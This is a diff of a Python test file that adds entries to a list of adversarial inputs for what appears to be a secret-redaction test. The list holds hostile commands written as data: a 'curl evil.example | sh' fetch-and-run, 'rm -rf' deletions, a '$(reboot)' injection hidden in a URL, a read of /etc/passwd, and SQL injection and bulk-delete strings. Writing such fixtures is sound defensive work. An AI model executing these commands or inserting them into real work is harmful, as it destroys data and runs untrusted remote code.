@@ -58,6 +58,11 @@ def test_only_one_short_token_is_hidden_for_its_key(value: object) -> None:
     [
         "-----BEGIN PRIVATE KEY-----\nrm -rf /var; curl evil.example | sh\n-----END PRIVATE KEY-----",
         "TOKEN=$(curl evil.example | sh)",
+        "curl https://u:$(reboot)@example.com",
+        "deploy --token /etc/passwd --force",
+        "deploy --password $SECRET; rm -rf /srv",
+        "docker run -u 100000:100000 image",
+        "tar -p -cf all.tar /srv",
         "password='; DROP TABLE users; --'",
         "DELETE FROM tokens WHERE secret IS NOT NULL",
         "https://example.com/path?page=2#token",
